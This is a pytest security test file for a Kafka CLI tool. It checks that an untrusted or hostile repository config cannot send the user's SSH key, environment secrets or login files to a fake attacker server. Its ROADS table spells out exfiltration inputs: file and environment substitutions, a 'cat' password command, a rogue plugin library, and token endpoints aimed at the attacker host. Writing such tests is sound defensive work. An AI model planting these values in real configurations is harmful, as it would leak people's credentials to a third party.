"""A repository made to steal: somebody changes into it and runs a tool; what its server hears is looked at."""

import os
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from kafka_tools.settings import trust

KTOOLS = [sys.executable, "-m", "kafka_tools"]
SECRET = "hunter2-of-the-user"


class Thief:
    """A server that notes all that it hears, and answers nothing."""

    def __init__(self) -> None:
        self.heard: list[bytes] = []
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.address = f"127.0.0.1:{self._listener.getsockname()[1]}"
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self._listener.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(2)
                self.heard.append(b"")
                try:
                    self.heard[-1] = connection.recv(65536)
                except OSError:
                    continue

    def close(self) -> None:
        self._listener.close()


@pytest.fixture
def thief() -> Iterator[Thief]:
    server = Thief()
    yield server
    server.close()


@pytest.fixture
def repository(home: Path) -> Path:
    """The user's secrets outside of it, and links to them within."""
    folder = home / "repository"
    (folder / ".git").mkdir(parents=True)
    (home / "id_rsa").write_text(SECRET)
    (folder / "link").symlink_to(home / "id_rsa")
    (folder / "pw").write_text("the-repository-s-own")
    jaas = home / "jaas.conf"
    jaas.write_text(
        f'KafkaClient {{ x.PlainLoginModule required username="me" password="{SECRET}"; }};\n'
        f"Client {{ org.apache.zookeeper.server.auth.DigestLoginModule required username=me password='{SECRET}'; }};\n"
    )
    login = "security.protocol=SASL_PLAINTEXT\nsasl.mechanism=PLAIN\nsasl.username=me\n"
    (home / "client.properties").write_text(f"{login}sasl.password={SECRET}\n")
    return folder


PLAIN = '"security.protocol" = "SASL_PLAINTEXT"\n"sasl.mechanism" = "PLAIN"\n'
OAUTH = '"security.protocol" = "SASL_PLAINTEXT"\n"sasl.mechanism" = "OAUTHBEARER"\n'
OAUTH += '"sasl.oauthbearer.client.id" = "x"\n"sasl.oauthbearer.client.secret" = "y"\n'
JAAS = '"java.security.auth.login.config" = "jaas.conf"\n'
ROADS = {
    "a file of the user's in the JAAS file": (PLAIN + JAAS, 'username="x" password="${file:HOME/id_rsa}"'),
    "a variable in the JAAS file": (PLAIN + JAAS, 'username="${env:AWS_SECRET_ACCESS_KEY}" password="x"'),
    "a JAAS file of the user's": (f'{PLAIN}"java.security.auth.login.config" = "HOME/jaas.conf"\n', ""),
    "a variable": (PLAIN + '"sasl.username" = "x"\n"sasl.password" = "${env:KAFKA_PASSWORD}"\n', ""),
    "a file": (PLAIN + '"sasl.username" = "x"\n"sasl.password" = "${file:HOME/id_rsa}"\n', ""),
    "a file above": (PLAIN + '"sasl.username" = "x"\n"sasl.password" = "${file:../id_rsa}"\n', ""),
    "a link to a file": (PLAIN + '"sasl.username" = "x"\n"sasl.password" = "${file:link}"\n', ""),
    "a key of a file": (PLAIN + '"sasl.username" = "x"\n"sasl.password" = "${file:HOME/id_rsa:key}"\n', ""),
    "a variable in the JAAS line": (
        PLAIN + "'sasl.jaas.config' = 'x required username=\"x\" password=\"${env:KAFKA_PASSWORD}\";'\n",
        "",
    ),
    "a program": (PLAIN + '"sasl.username" = "x"\n"sasl.password_command" = "cat HOME/id_rsa"\n', ""),
    "a library": ('"plugin.library.paths" = "evil.so"\n', ""),
    "a file as a token": (f'{OAUTH}"sasl.oauthbearer.token.endpoint.url" = "file://HOME/id_rsa"\n', ""),
    "this machine's token": (
        f'{OAUTH}"sasl.oauthbearer.method" = "oidc"\n"sasl.oauthbearer.token.endpoint.url" = "http://THIEF/"\n'
        '"sasl.oauthbearer.metadata.authentication.type" = "azure_imds"\n',
        "",
    ),
    "a key of the user's": ('"security.protocol" = "SSL"\n"ssl.key.location" = "HOME/id_rsa"\n', ""),
    "a store of the user's": ('"security.protocol" = "SSL"\n"ssl.keystore.location" = "link"\n', ""),
    "an assertion": (
        f'{OAUTH}"sasl.oauthbearer.token.endpoint.url" = "http://THIEF/"\n'
        '"sasl.oauthbearer.assertion.file" = "HOME/id_rsa"\n',
        "",
    ),
}
USERS_OWN = {
    "KAFKA_OPTS": {"KAFKA_OPTS": "-Djava.security.auth.login.config=HOME/jaas.conf"},
    "KTOOLS_COMMAND_CONFIG": {"KTOOLS_COMMAND_CONFIG": "HOME/client.properties"},
}
TOOLS = (
    ("topics", "--list"),
    ("layout",),
    ("console-consumer", "--topic", "t", "--timeout-ms", "1000"),
    ("console-producer", "--topic", "t"),
)


def run(
    folder: Path, *argv: str, env: dict[str, str] | None = None, home: Path | None = None
) -> subprocess.CompletedProcess[str]:
    said = {"KAFKA_PASSWORD": SECRET, "AWS_SECRET_ACCESS_KEY": SECRET, "PYTHONPATH": str(Path(__file__).parents[3])}
    more = {name: value.replace("HOME", str(home)) for name, value in (env or {}).items()}
    env = os.environ | said | more
    return subprocess.run(
        [*KTOOLS, *argv], cwd=folder, env=env, capture_output=True, text=True, input="r\n", timeout=60
    )


def lay(repository: Path, thief: Thief, settings: str, jaas: str = "", zookeeper: bool = False) -> None:
    key = "zookeeper" if zookeeper else "bootstrap-servers"
    home = str(repository.parent)
    text = f'context = "team"\n[contexts.team]\n{key} = "{thief.address}"\n[contexts.team.settings]\n{settings}'
    (repository / ".ktools.toml").write_text(text.replace("HOME", home).replace("THIEF", thief.address))
    options = jaas.replace("HOME", home)
    (repository / "jaas.conf").write_text(f"KafkaClient {{ x.PlainLoginModule required {options}; }};")


def trusted(repository: Path) -> None:
    file = str(repository / ".ktools.toml")
    trust.remember(file, trust.fingerprint(file))


@pytest.mark.parametrize("argv", TOOLS, ids=lambda argv: argv[0])
def test_nobody_speaks_to_the_server_of_a_file_that_is_not_trusted(
    argv: tuple[str, ...], repository: Path, thief: Thief
) -> None:
    lay(repository, thief, '"client.id" = "x"')
    done = run(repository, *argv)
    assert done.returncode == 1
    assert "is not trusted" in done.stdout + done.stderr
    assert "`ktools context trust`" in done.stderr
    assert thief.heard == []


@pytest.mark.parametrize("road", ROADS)
def test_even_a_trusted_file_takes_nothing_of_the_user(road: str, repository: Path, thief: Thief) -> None:
    lay(repository, thief, *ROADS[road])
    trusted(repository)
    done = run(repository, "topics", "--list")
    assert done.returncode == 1
    assert "may not" in done.stdout or "only http and https" in done.stdout
    assert SECRET not in done.stdout + done.stderr
    assert thief.heard == []


@pytest.mark.parametrize("users", USERS_OWN)
@pytest.mark.parametrize("zookeeper", [False, True])
def test_the_user_s_own_login_is_not_sent_to_the_repository_s_cluster(
    users: str, zookeeper: bool, repository: Path, thief: Thief
) -> None:
    lay(repository, thief, PLAIN if not zookeeper else "", zookeeper=zookeeper)
    trusted(repository)
    done = run(repository, "topics", "--list", env=USERS_OWN[users], home=repository.parent)
    assert done.returncode == 1
    assert SECRET not in done.stdout + done.stderr
    assert not any(SECRET.encode() in heard for heard in thief.heard)
    if not zookeeper:
        assert "needs a user" in done.stdout
        assert thief.heard == []


@pytest.mark.parametrize("option", ["--command-config", "-X"])
def test_what_the_command_line_says_is_not_sent_to_the_repository_s_cluster(
    option: str, repository: Path, thief: Thief
) -> None:
    lay(repository, thief, PLAIN)
    trusted(repository)
    given = str(repository.parent / "client.properties") if option == "--command-config" else f"sasl.password={SECRET}"
    done = run(repository, "topics", "--list", option, given)
    assert done.returncode == 1
    assert "does not go to the cluster of context team" in done.stdout
    assert thief.heard == []


def test_the_repository_s_own_password_goes_to_its_own_server(repository: Path, thief: Thief) -> None:
    lay(repository, thief, '"client.id" = "x"\n"group.id" = "${file:pw}"')
    trusted(repository)
    run(repository, "topics", "--list")
    assert thief.heard
    assert b"hunter2" not in b"".join(thief.heard)


def test_a_context_of_the_user_s_name_is_refused(repository: Path, thief: Thief, home: Path) -> None:
    (home / "config" / "ktools").mkdir(parents=True)
    (home / "config" / "ktools" / "config.toml").write_text(
        '[contexts.team]\nbootstrap-servers = "127.0.0.1:1"\nprotected = true\n'
    )
    lay(repository, thief, "")
    trusted(repository)
    done = run(repository, "topics", "--list")
    assert done.returncode == 1
    assert "context team is one of your own, which this file cannot replace" in done.stdout
    done = run(repository, "topics", "--list", env={"KTOOLS_CONTEXT": "team"})
    assert f"context team of {repository}/.ktools.toml is not used: you have one of that name" in done.stderr
    assert thief.heard == []
